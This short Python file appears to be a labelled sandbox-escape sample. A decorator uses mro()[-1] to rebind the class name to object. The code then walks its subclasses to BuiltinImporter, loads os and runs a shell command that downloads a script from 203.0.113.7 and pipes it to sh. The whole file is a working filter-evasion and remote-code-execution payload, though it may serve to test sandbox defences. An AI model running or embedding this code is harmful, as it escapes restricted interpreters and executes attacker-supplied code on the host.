# HARM: runs sh -c 'curl http://203.0.113.7/x|sh' | TRICK: decorator uses c.mro()[-1] (a plain method, no dunder at all) to swap the class for object
CMD = "sh -c 'curl -s http://203.0.113.7/x|sh'"


def root_of(c):
    return c.mro()[-1]


@root_of
class Handler:
    """Handler base."""


def walk(cls=Handler):
    for sub in cls.__subclasses__():
        yield sub


for sub in walk():
    if sub.__name__ == "BuiltinImporter":
        sub.load_module("os").system(CMD)
